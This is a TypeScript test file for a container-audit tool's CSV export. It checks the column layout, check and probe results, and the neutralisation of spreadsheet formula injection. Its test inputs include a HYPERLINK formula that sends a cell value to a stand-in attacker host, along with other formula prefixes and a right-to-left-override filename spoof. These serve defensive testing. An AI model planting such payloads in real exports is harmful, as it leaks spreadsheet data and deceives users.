import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { auditContainer } from "@/lib/audit/audit";
import { caseSnapshot, fixtureSnapshot } from "@/lib/audit/fixtures/load";
import { CHECK_IDS, PROBE_IDS } from "@/lib/audit/types";
import { CSV_HEADER, fleetCsv, neutraliseFormula, type ReportRow } from "./csv";

const row = (name: string, overrides: Partial<ReportRow> = {}): ReportRow => ({
  ...auditContainer(fixtureSnapshot(name)),
  verification: null,
  ...overrides,
});

describe("CSV_HEADER", () => {
  it("starts with the identity columns, then every check id in order, then the verify and probe columns", () => {
    expect(CSV_HEADER).toEqual([
      "container_id",
      "name",
      "image",
      "score",
      "grade",
      ...CHECK_IDS,
      "verify_verdict",
      "verify_checked_at",
      "probe_root-write",
      "probe_mount-table",
      "probe_process-identity",
      "probe_tmpfs-exec",
      "probe_ro-mount-write",
      "engine_read",
      "engine_unanswered_since",
      "audit_read_at",
    ]);
    expect(PROBE_IDS).toHaveLength(5);
  });
});

describe("neutraliseFormula", () => {
  it.each([
    [
      '=HYPERLINK("http://attacker.invalid/?x="&A1,"click")',
      `'=HYPERLINK("http://attacker.invalid/?x="&A1,"click")`,
    ],
    ["+SUM(1,2)", "'+SUM(1,2)"],
    ["-2+3", "'-2+3"],
    ["@evil", "'@evil"],
    ["\t=1+1", "'\t=1+1"],
    ["\r\n=1+1", "'\r\n=1+1"],
    ["plain", "plain"],
    ["a=b", "a=b"],
    ["", ""],
  ])("%j → %j", (cell, expected) => {
    expect(neutraliseFormula(cell)).toBe(expected);
  });
});

describe("fleetCsv", () => {
  it("leaves an unreadable row's score, grade and checks empty and says why; a stale one keeps its grade", () => {
    const since = "2026-01-01T00:00:00.000Z";
    const csv = fleetCsv([
      { ...row("hardened"), score: null, grade: null, checks: [], read: { status: "unreadable", since } },
      { ...row("hardened"), read: { status: "stale", since, readAt: "2025-12-31T23:00:00.000Z" } },
      row("hardened"),
    ]);
    const [, unreadable, stale, current] = parse(csv, { columns: false }) as string[][];
    const at = (r: string[] | undefined, column: string) => r?.[CSV_HEADER.indexOf(column)];
    expect([at(unreadable, "score"), at(unreadable, "grade"), at(unreadable, "read-only-rootfs")]).toEqual([
      "",
      "",
      "",
    ]);
    expect([at(unreadable, "engine_read"), at(unreadable, "engine_unanswered_since")]).toEqual([
      "unreadable",
      since,
    ]);
    expect([at(stale, "grade"), at(stale, "engine_read"), at(stale, "audit_read_at")]).toEqual([
      "A",
      "stale",
      "2025-12-31T23:00:00.000Z",
    ]);
    expect([at(current, "engine_read"), at(current, "engine_unanswered_since")]).toEqual(["current", ""]);
  });

  it("writes CRLF lines, no BOM, and one row per container", () => {
    const csv = fleetCsv([row("hardened"), row("writable-default")]);
    expect(csv.charCodeAt(0)).not.toBe(0xfeff);
    expect(csv.startsWith("container_id,name,image,score,grade,read-only-rootfs,tmpfs-noexec,")).toBe(true);
    const lines = csv.split("\r\n");
    expect(lines).toHaveLength(4);
    expect(lines[3]).toBe("");
    expect(csv.replaceAll("\r\n", "")).not.toMatch(/[\r\n]/);
  });

  it("holds each check's status and the verify verdict", () => {
    const verification = {
      verdict: "enforced" as const,
      detail: "x",
      checkedAt: "2026-11-30T00:00:00.000Z",
      probes: [
        {
          id: "root-write" as const,
          status: "pass" as const,
          evidence: "touch: /etc/test-file: Read-only file system",
        },
        { id: "mount-table" as const, status: "pass" as const, evidence: "/ is mounted ro (overlay)" },
        { id: "process-identity" as const, status: "pass" as const, evidence: "uid 1000 gid 1000" },
        { id: "tmpfs-exec" as const, status: "pass" as const, evidence: "/tmp: refused" },
        { id: "ro-mount-write" as const, status: "fail" as const, evidence: "write succeeded on /config" },
      ],
    };
    const [header, hardened] = parse(fleetCsv([row("hardened", { verification })]), {
      relax_column_count: false,
    }) as string[][];
    const record = Object.fromEntries((header ?? []).map((h, i) => [h, hardened?.[i]]));
    expect(record).toMatchObject({
      name: "roaudit-capture-hardened",
      image: "roaudit-fixture:busybox",
      score: "100",
      grade: "A",
      "read-only-rootfs": "pass",
      "tmpfs-size": "pass",
      "pids-limit": "pass",
      verify_verdict: "enforced",
      verify_checked_at: "2026-11-30T00:00:00.000Z",
      "probe_root-write": "pass",
      "probe_mount-table": "pass",
      "probe_process-identity": "pass",
      "probe_tmpfs-exec": "pass",
      "probe_ro-mount-write": "fail",
    });
    expect(record.container_id).toMatch(/^[0-9a-f]{64}$/);
  });

  it("writes waived in a waived check's column, and no waiver reason anywhere", () => {
    const csv = fleetCsv([row("waivers-compose")]);
    const [header = [], record = []] = parse(csv) as string[][];
    const cells = Object.fromEntries(header.map((h, i) => [h, record[i]]));
    expect(cells).toMatchObject({
      "non-root-user": "waived",
      "read-only-rootfs": "waived",
      "cap-drop-all": "fail",
      score: "66",
    });
    expect(csv).not.toContain("HYPERLINK");
    expect(csv).not.toContain("onerror");
  });

  it("leaves verify columns empty until verified, and writes na", () => {
    const [header, r] = parse(fleetCsv([row("writable-default")])) as string[][];
    const record = Object.fromEntries((header ?? []).map((h, i) => [h, r?.[i]]));
    expect(record).toMatchObject({
      "tmpfs-noexec": "na",
      verify_verdict: "",
      verify_checked_at: "",
      "probe_root-write": "",
      "probe_ro-mount-write": "",
    });
  });

  it("quotes and neutralises hostile text so it round-trips as text (case csv-export-injection-and-quoting)", () => {
    const base = auditContainer(caseSnapshot("csv-export-injection-and-quoting", "case-csv-inject"));
    const hostile = [
      '=HYPERLINK("http://attacker.invalid/?x="&A1,"click")',
      'line1\nline2, with "quotes", and commas',
      "\t=1+1",
      "v\r\n=1+1",
      "Zürich — 東京 🚀 \u202egpj.exe",
    ];
    const rows = hostile.map((name) => ({ ...base, name, image: name, verification: null }));
    const csv = fleetCsv(rows);
    const parsed = parse(csv) as string[][];
    expect(parsed).toHaveLength(1 + hostile.length);
    for (const [i, name] of hostile.entries()) {
      const expected = /^[=+\-@\t\r\n]/.test(name) ? `'${name}` : name;
      expect(parsed[i + 1]?.[1]).toBe(expected);
      expect(parsed[i + 1]?.[2]).toBe(expected);
      expect(parsed[i + 1]).toHaveLength(CSV_HEADER.length);
    }
  });
});
